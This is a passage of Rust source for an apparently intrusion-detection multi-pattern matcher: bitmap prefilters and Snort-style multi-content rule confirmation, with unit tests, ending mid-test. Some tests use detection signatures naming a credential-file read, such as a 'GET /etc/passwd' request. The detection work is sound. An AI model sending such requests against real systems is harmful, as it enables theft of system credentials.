    /// `window >> 3` selects the byte, bit `window & 7` the bit — exactly
    /// the layout `mpm_simd::VectorBackend::test_window_bits` expects
    /// (`mpm-verify` deliberately does not depend on `mpm-simd`, so this is
    /// a contract in prose rather than an intra-doc link).
    #[inline]
    pub fn bytes(&self) -> &[u8] {
        &self.bits
    }

    /// Resident size in bytes (8 KB + padding at full size).
    pub fn heap_bytes(&self) -> usize {
        self.bits.len()
    }
}

/// A bitmap indexed by a multiplicative hash of a 4-byte window.
#[derive(Clone, Debug)]
pub struct HashedFilter {
    bits: Vec<u8>,
    /// Number of index bits (the table has 2^bits bits).
    bits_log2: u32,
}

impl HashedFilter {
    /// Creates an empty filter with `2^bits_log2` bits.
    ///
    /// The paper balances collision rate against cache footprint; the
    /// default used by S-PATCH is [`HashedFilter::DEFAULT_BITS`] (2^17 bits
    /// = 16 KB, fitting L1 together with the two 8 KB direct filters in L2).
    pub fn new(bits_log2: u32) -> Self {
        assert!(
            (10..=24).contains(&bits_log2),
            "unreasonable hashed-filter size"
        );
        HashedFilter {
            bits: vec![0u8; (1usize << bits_log2) / 8 + FILTER_PADDING],
            bits_log2,
        }
    }

    /// Default size: 2^17 bits (16 KB).
    pub const DEFAULT_BITS: u32 = 17;

    /// Builds the filter from the first four bytes of every selected pattern.
    /// All selected patterns must be at least 4 bytes long.
    pub fn build<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        bits_log2: u32,
        select: F,
    ) -> Self {
        Self::build_with_fold(set, bits_log2, false, select)
    }

    /// Builds the filter over **ASCII-case-folded** 4-byte prefixes when
    /// `folded` is true (see [`DirectFilter::build_with_fold`] for the
    /// contract); engines fold the input windows before hashing so the
    /// filter stays a superset of the true candidates.
    pub fn build_with_fold<F: Fn(&mpm_patterns::Pattern) -> bool>(
        set: &PatternSet,
        bits_log2: u32,
        folded: bool,
        select: F,
    ) -> Self {
        let fold = |b: u8| mpm_patterns::fold_byte(b, folded);
        let mut filter = HashedFilter::new(bits_log2);
        for (_, p) in set.iter() {
            if !select(p) {
                continue;
            }
            assert!(
                folded || !p.is_nocase(),
                "nocase pattern in an unfolded filter would silently match case-sensitively"
            );
            let b = p.bytes();
            assert!(b.len() >= 4, "hashed filter requires >= 4-byte patterns");
            filter.insert(u32::from_le_bytes([
                fold(b[0]),
                fold(b[1]),
                fold(b[2]),
                fold(b[3]),
            ]));
        }
        filter
    }

    /// Hash of a 4-byte window into this filter's index space.
    #[inline]
    pub fn hash(&self, window4: u32) -> u32 {
        crate::hash32(window4, self.bits_log2)
    }

    /// Inserts a 4-byte window.
    #[inline]
    pub fn insert(&mut self, window4: u32) {
        let h = self.hash(window4);
        self.bits[(h >> 3) as usize] |= 1 << (h & 7);
    }

    /// Tests a 4-byte window.
    #[inline]
    pub fn contains(&self, window4: u32) -> bool {
        let h = self.hash(window4);
        (self.bits[(h >> 3) as usize] >> (h & 7)) & 1 != 0
    }

    /// Number of index bits (`log2` of the bit count).
    pub fn bits_log2(&self) -> u32 {
        self.bits_log2
    }

    /// Backing byte array (padded) for gather-based lookups; index with the
    /// hash value: byte `h >> 3`, bit `h & 7`.
    #[inline]
    pub fn bytes(&self) -> &[u8] {
        &self.bits
    }

    /// Resident size in bytes.
    pub fn heap_bytes(&self) -> usize {
        self.bits.len()
    }
}

/// The paper's filter-merging optimisation (Figure 3): the bytes of filter 1
/// and filter 2 interleaved in one array so a single gather at index
/// `2 * (window >> 3)` brings both filters' bytes into the register
/// (filter 1 in the low byte, filter 2 in the next byte).
#[derive(Clone, Debug)]
pub struct MergedDirectFilters {
    bytes: Vec<u8>,
    bits_log2: u32,
}

impl MergedDirectFilters {
    /// Interleaves two direct filters byte-by-byte. Both filters must be
    /// the same size (build them with the same `bits_log2`).
    pub fn merge(f1: &DirectFilter, f2: &DirectFilter) -> Self {
        assert_eq!(
            f1.bits_log2(),
            f2.bits_log2(),
            "merged filters must be equally sized"
        );
        let payload = (1usize << f1.bits_log2()) / 8;
        let mut bytes = vec![0u8; payload * 2 + FILTER_PADDING];
        for i in 0..payload {
            bytes[2 * i] = f1.bytes()[i];
            bytes[2 * i + 1] = f2.bytes()[i];
        }
        MergedDirectFilters {
            bytes,
            bits_log2: f1.bits_log2(),
        }
    }

    /// Gather index (byte offset) for a window value: both filters' bytes
    /// for `window` live at `2 * ((window & mask) >> 3)` (+0 for filter 1,
    /// +1 for filter 2).
    #[inline]
    pub fn gather_index(&self, window: u32) -> u32 {
        ((window & ((1u32 << self.bits_log2) - 1)) >> 3) * 2
    }

    /// Mask form of [`MergedDirectFilters::gather_index`] for the SIMD
    /// kernels: `gather_index(w) == (w >> 2) & gather_index_mask()`. At the
    /// full 16-bit size this is `0x3ffe` — the even byte offsets of the
    /// interleaved array (the constant the V-PATCH kernel historically
    /// hard-coded as `!1`).
    #[inline]
    pub fn gather_index_mask(&self) -> u32 {
        (((1u32 << self.bits_log2) - 1) >> 2) & !1
    }

    /// Number of index bits of the two merged filters.
    #[inline]
    pub fn bits_log2(&self) -> u32 {
        self.bits_log2
    }

    /// Scalar lookup of filter 1 for a window value.
    #[inline]
    pub fn contains_f1(&self, window: u16) -> bool {
        (self.bytes[self.gather_index(window as u32) as usize] >> (window & 7)) & 1 != 0
    }

    /// Scalar lookup of filter 2 for a window value.
    #[inline]
    pub fn contains_f2(&self, window: u16) -> bool {
        (self.bytes[self.gather_index(window as u32) as usize + 1] >> (window & 7)) & 1 != 0
    }

    /// Backing bytes (padded) for gathers.
    #[inline]
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// Resident size in bytes (16 KB + padding at full size).
    pub fn heap_bytes(&self) -> usize {
        self.bytes.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::PatternSet;

    #[test]
    fn direct_filter_set_and_test() {
        let mut f = DirectFilter::new();
        assert_eq!(f.popcount(), 0);
        f.set(0x4142);
        assert!(f.contains(0x4142));
        assert!(!f.contains(0x4143));
        assert_eq!(f.popcount(), 1);
        assert_eq!(f.heap_bytes(), 8192 + FILTER_PADDING);
    }

    #[test]
    fn direct_filter_build_sets_prefix_bits() {
        let set = PatternSet::from_literals(&["GET", "ab"]);
        let f = DirectFilter::build(&set, |_| true);
        assert!(f.contains(u16::from_le_bytes([b'G', b'E'])));
        assert!(f.contains(u16::from_le_bytes([b'a', b'b'])));
        assert!(!f.contains(u16::from_le_bytes([b'z', b'z'])));
    }

    #[test]
    fn one_byte_patterns_cover_all_second_bytes() {
        let set = PatternSet::from_literals(&["x"]);
        let f = DirectFilter::build(&set, |_| true);
        for second in 0..=255u8 {
            assert!(f.contains(u16::from_le_bytes([b'x', second])));
        }
        assert_eq!(f.popcount(), 256);
    }

    #[test]
    fn hashed_filter_membership_has_no_false_negatives() {
        let set = PatternSet::from_literals(&["attack-vector", "/etc/passwd", "abcdef"]);
        let f = HashedFilter::build(&set, HashedFilter::DEFAULT_BITS, |_| true);
        for (_, p) in set.iter() {
            let b = p.bytes();
            let w = u32::from_le_bytes([b[0], b[1], b[2], b[3]]);
            assert!(f.contains(w), "inserted window must be found");
        }
    }

    #[test]
    fn hashed_filter_rejects_most_random_windows() {
        let set = PatternSet::from_literals(&["attack-vector", "/etc/passwd", "abcdef"]);
        let f = HashedFilter::build(&set, HashedFilter::DEFAULT_BITS, |_| true);
        let mut false_positives = 0;
        let total = 10_000u32;
        for i in 0..total {
            let w = i.wrapping_mul(0x0101_0101).wrapping_add(0xdead_beef);
            if f.contains(w) {
                false_positives += 1;
            }
        }
        assert!(
            false_positives < 50,
            "expected < 0.5% false positives with 3 entries, got {false_positives}"
        );
    }

    #[test]
    #[should_panic(expected = ">= 4-byte patterns")]
    fn hashed_filter_rejects_short_patterns() {
        let set = PatternSet::from_literals(&["ab"]);
        let _ = HashedFilter::build(&set, 12, |_| true);
    }

    #[test]
    fn folded_direct_filter_indexes_on_lowercased_prefixes() {
        use mpm_patterns::Pattern;
        let set = PatternSet::new(vec![
            Pattern::literal_nocase(*b"GeT"),
            Pattern::literal(*b"AB"),
        ]);
        let f = DirectFilter::build_with_fold(&set, true, |_| true);
        // Folded build: only the folded window bits are set; engines fold the
        // input windows before the lookup.
        assert!(f.contains(u16::from_le_bytes([b'g', b'e'])));
        assert!(!f.contains(u16::from_le_bytes([b'G', b'E'])));
        assert!(f.contains(u16::from_le_bytes([b'a', b'b'])));
        assert!(!f.contains(u16::from_le_bytes([b'A', b'B'])));
    }

    #[test]
    fn folded_hashed_filter_accepts_folded_prefixes_of_all_patterns() {
        use mpm_patterns::Pattern;
        let set = PatternSet::new(vec![
            Pattern::literal_nocase(*b"PassWord"),
            Pattern::literal(*b"MiXeD-case"),
        ]);
        let f = HashedFilter::build_with_fold(&set, HashedFilter::DEFAULT_BITS, true, |_| true);
        assert!(f.contains(u32::from_le_bytes(*b"pass")));
        assert!(f.contains(u32::from_le_bytes(*b"mixe")));
    }

    #[test]
    fn merged_filters_agree_with_separate_lookups() {
        let set1 = PatternSet::from_literals(&["GE", "ab", "zz"]);
        let set2 = PatternSet::from_literals(&["GEToverlong", "qrstuv"]);
        let f1 = DirectFilter::build(&set1, |_| true);
        let f2 = DirectFilter::build(&set2, |_| true);
        let merged = MergedDirectFilters::merge(&f1, &f2);
        for w in 0..=u16::MAX {
            assert_eq!(merged.contains_f1(w), f1.contains(w), "f1 mismatch at {w}");
            assert_eq!(merged.contains_f2(w), f2.contains(w), "f2 mismatch at {w}");
        }
        assert_eq!(merged.heap_bytes(), 2 * 8192 + FILTER_PADDING);
    }

    #[test]
    fn adaptive_sizing_rule() {
        // ~1/8 density with clamping at both ends.
        assert_eq!(direct_filter_bits_for(0), DIRECT_FILTER_MIN_BITS);
        assert_eq!(direct_filter_bits_for(1), DIRECT_FILTER_MIN_BITS);
        assert_eq!(direct_filter_bits_for(100), DIRECT_FILTER_MIN_BITS);
        assert_eq!(direct_filter_bits_for(256), 11);
        assert_eq!(direct_filter_bits_for(1 << 12), 15);
        assert_eq!(direct_filter_bits_for(1 << 13), 16);
        assert_eq!(direct_filter_bits_for(1 << 20), DIRECT_FILTER_FULL_BITS);
    }

    #[test]
    fn window_count_expands_one_byte_patterns() {
        let set = PatternSet::from_literals(&["x", "ab", "abcd"]);
        assert_eq!(direct_filter_window_count(&set, |_| true), 258);
        assert_eq!(direct_filter_window_count(&set, |p| p.len() >= 4), 1);
    }

    #[test]
    fn small_filter_is_a_superset_of_the_full_one() {
        // Masked indexing may alias (false positives) but never drops a
        // window the full filter would accept.
        let set = PatternSet::from_literals(&["GET /", "POST /", "ab", "x"]);
        let full = DirectFilter::build(&set, |_| true);
        let small = DirectFilter::build_sized_with_fold(&set, 10, false, |_| true);
        assert_eq!(small.heap_bytes(), 128 + FILTER_PADDING);
        for w in 0..=u16::MAX {
            if full.contains(w) {
                assert!(small.contains(w), "window {w:#06x} lost by downsizing");
            }
        }
    }

    #[test]
    fn small_merged_filters_agree_with_separate_lookups() {
        let set1 = PatternSet::from_literals(&["GE", "ab", "zz"]);
        let set2 = PatternSet::from_literals(&["GEToverlong", "qrstuv"]);
        let f1 = DirectFilter::build_sized_with_fold(&set1, 11, false, |_| true);
        let f2 = DirectFilter::build_sized_with_fold(&set2, 11, false, |_| true);
        let merged = MergedDirectFilters::merge(&f1, &f2);
        assert_eq!(merged.heap_bytes(), 2 * 256 + FILTER_PADDING);
        for w in 0..=u16::MAX {
            assert_eq!(merged.contains_f1(w), f1.contains(w), "f1 mismatch at {w}");
            assert_eq!(merged.contains_f2(w), f2.contains(w), "f2 mismatch at {w}");
            // The SIMD form of the index matches the scalar one.
            assert_eq!(
                merged.gather_index(w as u32),
                (w as u32 >> 2) & merged.gather_index_mask(),
            );
        }
    }

    #[test]
    fn full_size_gather_mask_matches_the_historical_constant() {
        let set = PatternSet::from_literals(&["ab", "abcd"]);
        let f = DirectFilter::build(&set, |_| true);
        let merged = MergedDirectFilters::merge(&f, &f);
        assert_eq!(merged.gather_index_mask(), 0x3ffe);
        assert_eq!(f.gather_index_mask(), 0x1fff);
    }

    #[test]
    fn filters_are_cache_sized() {
        // The headline property the paper relies on: the whole filtering
        // working set fits comfortably in L1/L2.
        let set = PatternSet::from_literals(&["GET /", "POST /", "/etc/passwd"]);
        let f1 = DirectFilter::build(&set, |p| p.len() < 4);
        let f2 = DirectFilter::build(&set, |p| p.len() >= 4);
        let f3 = HashedFilter::build(&set, HashedFilter::DEFAULT_BITS, |p| p.len() >= 4);
        let total = f1.heap_bytes() + f2.heap_bytes() + f3.heap_bytes();
        assert!(total <= 64 * 1024, "filters must fit in L1/L2, got {total}");
    }
}
