//! Rule confirmation: from anchor hits to confirmed multi-content rules.
//!
//! The engines' multi-pattern matchers search only each rule's **anchor**
//! content ([`mpm_patterns::rule::RuleSet::anchors`]). When an anchor fires,
//! [`RuleConfirmer`] decides whether the *whole rule* matches — every
//! content present, every `offset`/`depth`/`distance`/`within` constraint
//! satisfiable — and at which offset, riding the same batched
//! `eq_window`/`eq_window_nocase` backend primitives as the PR 5 verifier so
//! confirmation stays on the SIMD path.
//!
//! # Algorithm
//!
//! Confirmation of one rule against one payload runs in two steps, inside a
//! single [`VectorBackend::dispatch`] region:
//!
//! 1. **Occurrence enumeration** — for each content, scan the absolute
//!    window its `offset`/`depth` allow and record every occurrence
//!    (first-byte prescreen, then one `eq_window[_nocase]` vector compare
//!    per surviving position). Any content with zero occurrences refutes
//!    the rule immediately.
//! 2. **Chain DP** — over contents in rule order, compute for every
//!    occurrence the minimal achievable *maximum occurrence end* of any
//!    constraint-satisfying assignment ending there: the relative
//!    constraints couple only adjacent contents through the previous
//!    occurrence's end, so
//!    `g_i(j) = max(end_j, min over feasible k of g_{i-1}(k))`.
//!    The rule is satisfiable iff some `g` survives, and `min g` is the
//!    **minimal prefix length at which the rule matches** — the offset
//!    reported in [`RuleMatch::end`].
//!
//! That minimum is a pure function of the payload bytes: it never depends
//! on chunking, which is what lets `mpm-stream` report identical rule
//! matches streamed and one-shot (property-tested in
//! `tests/rule_confirmation_differential.rs` against the naive evaluator in
//! `mpm_patterns::rule`, which uses a deliberately different algorithm —
//! memoized recursion plus binary search).
//!
//! Gating confirmation on anchor hits loses nothing: a satisfying
//! assignment contains a real anchor occurrence, and the anchor MPM is
//! exact, so "rule satisfiable" implies "anchor reported".
//!
//! # Amortizing confirmation: the payload index
//!
//! Step 1 above re-scans the payload once per content *per triggered rule*.
//! That is the right shape for streaming (per-flow payloads are small and
//! few rules are pending at once), but on a monolithic trace where hundreds
//! of anchors fire it degenerates to `O(rules × payload)`. For that case
//! [`RuleConfirmer::index_payload`] enumerates every occurrence of every
//! *distinct* content in **one** Aho-Corasick pass and
//! [`RuleConfirmer::confirm_indexed`] replaces step 1 with two binary
//! searches per content (slicing the absolute `offset`/`depth` window out
//! of the sorted occurrence list); step 2 is unchanged.
//! [`RuleScanner::scan_rules`] takes this path whenever any rule triggers.

use mpm_aho_corasick::NfaMatcher;
use mpm_patterns::rule::{RuleContent, RuleId, RuleMatch, RuleSet};
use mpm_patterns::{MatchEvent, Matcher, Pattern, PatternSet, ProtocolGroup};
use mpm_simd::{Avx2Backend, Avx512Backend, BackendKind, ScalarBackend, VectorBackend};
use std::collections::{BTreeSet, HashMap};
use std::sync::Arc;

/// The rule-confirmation stage: compiled constraint chains for every rule
/// of a [`RuleSet`], evaluated on demand when the rule's anchor fires.
///
/// Stateless per payload (scratch is allocated per call); share one
/// confirmer across threads via [`Arc`].
#[derive(Clone, Debug)]
pub struct RuleConfirmer {
    rules: Arc<RuleSet>,
    /// Per rule, the unique-content slot of each of its contents in order.
    slots: Arc<Vec<Vec<u32>>>,
    /// Content length in bytes per unique-content slot.
    slot_len: Arc<Vec<u32>>,
    /// Exact multi-pattern matcher over the distinct `(bytes, nocase)`
    /// contents (one pattern per slot), backing [`Self::index_payload`].
    contents: Arc<NfaMatcher>,
}

impl RuleConfirmer {
    /// Compiles the confirmation stage for `set`.
    pub fn build(set: &RuleSet) -> Self {
        let mut slot_of: HashMap<(Vec<u8>, bool), u32> = HashMap::new();
        let mut patterns: Vec<Pattern> = Vec::new();
        let mut slots: Vec<Vec<u32>> = Vec::with_capacity(set.len());
        for rule in set.rules() {
            slots.push(
                rule.contents()
                    .iter()
                    .map(|content| {
                        let key = (content.bytes().to_vec(), content.is_nocase());
                        *slot_of.entry(key).or_insert_with(|| {
                            patterns.push(
                                Pattern::new(content.bytes().to_vec(), ProtocolGroup::Any)
                                    .with_nocase(content.is_nocase()),
                            );
                            (patterns.len() - 1) as u32
                        })
                    })
                    .collect(),
            );
        }
        let slot_len = patterns.iter().map(|p| p.len() as u32).collect();
        let contents = Arc::new(NfaMatcher::build(&PatternSet::new(patterns)));
        RuleConfirmer {
            rules: Arc::new(set.clone()),
            slots: Arc::new(slots),
            slot_len: Arc::new(slot_len),
            contents,
        }
    }

    /// Number of rules this confirmer covers.
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// The underlying rule set.
    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// Confirms `rule` against `payload` on the best backend this process
    /// dispatches to (honours `MPM_FORCE_BACKEND`). Returns the minimal
    /// prefix length at which the rule is satisfiable, or `None`.
    pub fn confirm(&self, payload: &[u8], rule: RuleId) -> Option<usize> {
        match mpm_simd::detect_best() {
            BackendKind::Scalar => self.confirm_with::<ScalarBackend, 8>(payload, rule),
            BackendKind::Avx2 => self.confirm_with::<Avx2Backend, 8>(payload, rule),
            BackendKind::Avx512 => self.confirm_with::<Avx512Backend, 16>(payload, rule),
        }
    }

    /// [`RuleConfirmer::confirm`] monomorphized for one backend (the
    /// engines' usual `B`/`W` shape, so tests can pin a backend directly).
    pub fn confirm_with<B: VectorBackend<W>, const W: usize>(
        &self,
        payload: &[u8],
        rule: RuleId,
    ) -> Option<usize> {
        let contents = self.rules.get(rule).contents();
        B::dispatch(|| {
            // Step 1: per-content occurrence ends within the absolute
            // windows. Ends are u64 so the DP sentinel below cannot collide.
            let mut lists: Vec<Vec<u64>> = Vec::with_capacity(contents.len());
            for content in contents {
                let mut ends = Vec::new();
                if let Some((lo, hi)) = content.scan_range(payload.len()) {
                    let bytes = content.bytes();
                    let len = bytes.len();
                    if content.is_nocase() {
                        let first = bytes[0].to_ascii_lowercase();
                        for start in lo..=hi {
                            if payload[start].to_ascii_lowercase() == first
                                && B::eq_window_nocase(&payload[start..start + len], bytes)
                            {
                                ends.push((start + len) as u64);
                            }
                        }
                    } else {
                        let first = bytes[0];
                        for start in lo..=hi {
                            if payload[start] == first
                                && B::eq_window(&payload[start..start + len], bytes)
                            {
                                ends.push((start + len) as u64);
                            }
                        }
                    }
                }
                if ends.is_empty() {
                    return None;
                }
                lists.push(ends);
            }

            let slices: Vec<&[u64]> = lists.iter().map(|l| l.as_slice()).collect();
            chain_dp(contents, &slices)
        })
    }

    /// Enumerates every occurrence of every distinct rule content in one
    /// Aho-Corasick pass over `payload`. The index amortizes confirmation
    /// across many triggered rules: [`Self::confirm_indexed`] then needs no
    /// byte compares at all, only binary searches into the sorted
    /// occurrence lists.
    pub fn index_payload(&self, payload: &[u8]) -> PayloadIndex {
        let mut ends: Vec<Vec<u64>> = vec![Vec::new(); self.slot_len.len()];
        // NfaMatcher emits events in increasing end order, so per-slot
        // lists arrive sorted — the binary searches below rely on that.
        for event in self.contents.find_all(payload) {
            let slot = event.pattern.index();
            ends[slot].push((event.start + self.slot_len[slot] as usize) as u64);
        }
        PayloadIndex {
            ends,
            payload_len: payload.len(),
        }
    }

    /// [`Self::confirm`] against a prebuilt [`PayloadIndex`] of the same
    /// payload: per-content occurrence lists become window slices of the
    /// index (two binary searches each), then the identical chain DP runs.
    pub fn confirm_indexed(&self, index: &PayloadIndex, rule: RuleId) -> Option<usize> {
        let contents = self.rules.get(rule).contents();
        let slots = &self.slots[rule.index()];
        let mut lists: Vec<&[u64]> = Vec::with_capacity(contents.len());
        for (content, &slot) in contents.iter().zip(slots) {
            let (lo, hi) = content.scan_range(index.payload_len)?;
            let all = index.ends[slot as usize].as_slice();
            let len = content.len() as u64;
            // Starts in [lo, hi] <=> ends in [lo + len, hi + len].
            let from = all.partition_point(|&end| end < lo as u64 + len);
            let to = all.partition_point(|&end| end <= hi as u64 + len);
            if from == to {
                return None;
            }
            lists.push(&all[from..to]);
        }
        chain_dp(contents, &lists)
    }

    /// Heap bytes of the compiled rule chains, slot tables, and the
    /// unique-content automaton behind [`Self::index_payload`].
    pub fn heap_bytes(&self) -> usize {
        let chains: usize = self.rules.rules().iter().map(|r| r.heap_bytes()).sum();
        let slots: usize = self
            .slots
            .iter()
            .map(|s| s.len() * std::mem::size_of::<u32>())
            .sum();
        chains + slots + self.contents.automaton().heap_bytes()
    }
}

/// Per-payload occurrence index built by [`RuleConfirmer::index_payload`]:
/// sorted occurrence ends per distinct rule content. Valid only for the
/// exact payload it was built from.
pub struct PayloadIndex {
    /// Sorted occurrence ends (`start + len`) per unique-content slot.
    ends: Vec<Vec<u64>>,
    /// Length of the indexed payload (drives `offset`/`depth` windows).
    payload_len: usize,
}

impl PayloadIndex {
    /// Total number of content occurrences recorded in the index.
    pub fn occurrence_count(&self) -> usize {
        self.ends.iter().map(|e| e.len()).sum()
    }
}

/// Step 2 of confirmation (shared by the scanning and indexed paths): chain
/// DP on the minimal achievable maximum occurrence end, over one sorted
/// occurrence-end list per content. The first content's own relative
/// constraints (legal in Snort: relative to payload start) are checked
/// against `prev_end = 0`.
fn chain_dp(contents: &[RuleContent], lists: &[&[u64]]) -> Option<usize> {
    const UNSAT: u64 = u64::MAX;
    let mut g: Vec<u64> = if contents[0].is_relative() {
        let len = contents[0].len() as u64;
        lists[0]
            .iter()
            .map(|&end| {
                if contents[0].relative_ok((end - len) as usize, 0) {
                    end
                } else {
                    UNSAT
                }
            })
            .collect()
    } else {
        lists[0].to_vec()
    };
    for (i, content) in contents.iter().enumerate().skip(1) {
        let len = content.len() as u64;
        let prev_ends = lists[i - 1];
        let prev_g = std::mem::take(&mut g);
        if content.is_relative() {
            g = lists[i]
                .iter()
                .map(|&end| {
                    let start = (end - len) as usize;
                    let best_prev = prev_ends
                        .iter()
                        .zip(&prev_g)
                        .filter(|&(&prev_end, &pg)| {
                            pg != UNSAT && content.relative_ok(start, prev_end as usize)
                        })
                        .map(|(_, &pg)| pg)
                        .min()
                        .unwrap_or(UNSAT);
                    if best_prev == UNSAT {
                        UNSAT
                    } else {
                        best_prev.max(end)
                    }
                })
                .collect();
        } else {
            // No relative coupling: every occurrence may follow the
            // globally cheapest prefix assignment.
            let best_prev = prev_g.iter().copied().min().unwrap_or(UNSAT);
            g = lists[i]
                .iter()
                .map(|&end| {
                    if best_prev == UNSAT {
                        UNSAT
                    } else {
                        best_prev.max(end)
                    }
                })
                .collect();
        }
    }
    g.into_iter()
        .filter(|&v| v != UNSAT)
        .min()
        .map(|v| v as usize)
}

/// One-shot rule scanning: an anchor engine plus a [`RuleConfirmer`].
///
/// [`RuleScanner::scan`] keeps reporting plain anchor-pattern hits (the
/// [`Matcher`] view); [`RuleScanner::scan_rules`] reports **confirmed
/// rules**, each at most once per payload, at the minimal prefix length at
/// which its constraints are satisfiable. For streaming and multi-core use
/// see `mpm_stream::RuleStreamScanner` / `ScannerBuilder::rules`.
pub struct RuleScanner {
    engine: Arc<dyn Matcher + Send + Sync>,
    confirmer: RuleConfirmer,
    rule_of: Arc<[u32]>,
}

impl RuleScanner {
    /// Wraps an engine compiled for `set.anchors()`.
    ///
    /// # Panics
    /// Panics if the engine disagrees with the anchor set about the longest
    /// pattern (the symptom of compiling it for a different set).
    pub fn new(engine: Arc<dyn Matcher + Send + Sync>, set: &RuleSet) -> Self {
        let anchors = set.anchors();
        let max_len = anchors
            .patterns()
            .iter()
            .map(|p| p.len())
            .max()
            .unwrap_or(0);
        assert_eq!(
            engine.max_pattern_len(),
            max_len,
            "engine was compiled for a different anchor set"
        );
        let rule_of: Arc<[u32]> = anchors
            .rule_bindings()
            .expect("RuleSet::anchors is always rule-bound")
            .into();
        RuleScanner {
            engine,
            confirmer: RuleConfirmer::build(set),
            rule_of,
        }
    }

    /// The wrapped anchor engine.
    pub fn engine(&self) -> &Arc<dyn Matcher + Send + Sync> {
        &self.engine
    }

    /// The confirmation stage.
    pub fn confirmer(&self) -> &RuleConfirmer {
        &self.confirmer
    }

    /// Anchor-pattern hits, exactly as the wrapped [`Matcher`] reports them.
    pub fn scan(&self, payload: &[u8]) -> Vec<MatchEvent> {
        self.engine.find_all(payload)
    }

    /// Confirmed rules, in rule-id order, each at most once.
    ///
    /// Confirmation is amortized through one [`RuleConfirmer::index_payload`]
    /// pass shared by every triggered rule, so the cost of dense anchor
    /// traffic scales with the payload, not with `rules × payload`.
    pub fn scan_rules(&self, payload: &[u8]) -> Vec<RuleMatch> {
        let mut triggered: BTreeSet<u32> = BTreeSet::new();
        for event in self.engine.find_all(payload) {
            triggered.insert(self.rule_of[event.pattern.index()]);
        }
        if triggered.is_empty() {
            return Vec::new();
        }
        let index = self.confirmer.index_payload(payload);
        triggered
            .into_iter()
            .filter_map(|rule| {
                let id = RuleId(rule);
                self.confirmer
                    .confirm_indexed(&index, id)
                    .map(|end| RuleMatch::new(id, end))
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::rule::{naive_rule_find_all, naive_rule_first_end, Rule, RuleContent};
    use mpm_patterns::{NaiveMatcher, ProtocolGroup};

    fn ruleset(rules: Vec<Vec<RuleContent>>) -> RuleSet {
        RuleSet::new(
            rules
                .into_iter()
                .map(|contents| Rule::new(ProtocolGroup::Any, contents))
                .collect(),
        )
    }

    fn scanner(set: &RuleSet) -> RuleScanner {
        RuleScanner::new(Arc::new(NaiveMatcher::new(set.anchors())), set)
    }

    /// Asserts the confirmer agrees with the naive evaluator on every rule
    /// of `set`, on every backend this machine dispatches to.
    fn assert_matches_naive(set: &RuleSet, payload: &[u8]) {
        let confirmer = RuleConfirmer::build(set);
        let index = confirmer.index_payload(payload);
        for (id, rule) in set.iter() {
            let expected = naive_rule_first_end(rule, payload);
            assert_eq!(
                confirmer.confirm_with::<ScalarBackend, 8>(payload, id),
                expected,
                "scalar diverged on rule {id} over {payload:?}"
            );
            assert_eq!(
                confirmer.confirm_indexed(&index, id),
                expected,
                "indexed confirmation diverged on rule {id} over {payload:?}"
            );
            for kind in mpm_simd::available_backends() {
                let got = match kind {
                    BackendKind::Scalar => confirmer.confirm_with::<ScalarBackend, 8>(payload, id),
                    BackendKind::Avx2 => confirmer.confirm_with::<Avx2Backend, 8>(payload, id),
                    BackendKind::Avx512 => confirmer.confirm_with::<Avx512Backend, 16>(payload, id),
                };
                assert_eq!(got, expected, "{kind:?} diverged on rule {id}");
            }
        }
    }

    #[test]
    fn two_content_chain_confirms_at_minimal_end() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"GET "),
            RuleContent::new(*b"passwd")
                .with_distance(0)
                .with_within(20),
        ]]);
        let payload = b"GET /etc/passwd HTTP/1.1";
        assert_matches_naive(&set, payload);
        let got = scanner(&set).scan_rules(payload);
        assert_eq!(got, vec![RuleMatch::new(RuleId(0), 15)]);
    }

    #[test]
    fn violated_within_window_refutes() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"GET "),
            RuleContent::new(*b"passwd").with_within(8),
        ]]);
        let payload = b"GET /some/long/prefix/passwd";
        assert_matches_naive(&set, payload);
        assert!(scanner(&set).scan_rules(payload).is_empty());
    }

    #[test]
    fn absolute_offset_depth_windows_are_enforced() {
        let set = ruleset(vec![
            vec![RuleContent::new(*b"ab").with_offset(2).with_depth(4)],
            vec![RuleContent::new(*b"ab").with_offset(6)],
        ]);
        let payload = b"ab..ab..ab";
        assert_matches_naive(&set, payload);
        let got = scanner(&set).scan_rules(payload);
        assert_eq!(
            got,
            vec![RuleMatch::new(RuleId(0), 6), RuleMatch::new(RuleId(1), 10)]
        );
    }

    #[test]
    fn negative_distance_reaches_backwards() {
        // Second content may start up to 3 bytes before the first's end.
        let set = ruleset(vec![vec![
            RuleContent::new(*b"abcd"),
            RuleContent::new(*b"cdx").with_distance(-3),
        ]]);
        let payload = b"..abcdx.";
        assert_matches_naive(&set, payload);
        assert_eq!(scanner(&set).scan_rules(payload).len(), 1);
    }

    #[test]
    fn nocase_contents_confirm_case_insensitively() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"user").with_nocase(true),
            RuleContent::new(*b"Pass").with_distance(0),
        ]]);
        assert_matches_naive(&set, b"USER x Pass");
        assert_matches_naive(&set, b"USER x pass");
        assert_eq!(scanner(&set).scan_rules(b"UsEr x Pass").len(), 1);
        assert!(
            scanner(&set).scan_rules(b"UsEr x pass").is_empty(),
            "the case-sensitive content must stay byte-exact"
        );
    }

    #[test]
    fn later_anchor_occurrence_rescues_the_chain() {
        // First "ab" is too far from any "cd"; the second works.
        let set = ruleset(vec![vec![
            RuleContent::new(*b"ab"),
            RuleContent::new(*b"cd").with_distance(0).with_within(4),
        ]]);
        let payload = b"ab........ab.cd";
        assert_matches_naive(&set, payload);
        assert_eq!(
            scanner(&set).scan_rules(payload),
            vec![RuleMatch::new(RuleId(0), 15)]
        );
    }

    #[test]
    fn first_content_relative_constraints_anchor_at_payload_start() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"xy").with_distance(3),
            RuleContent::new(*b"zz").with_distance(0),
        ]]);
        // "xy" must start at >= 3 from payload start.
        assert_matches_naive(&set, b"xy.xy.zz");
        assert_matches_naive(&set, b"xy.zz");
        assert_eq!(scanner(&set).scan_rules(b"xy.xy.zz").len(), 1);
        assert!(scanner(&set).scan_rules(b"xy.zz").is_empty());
    }

    #[test]
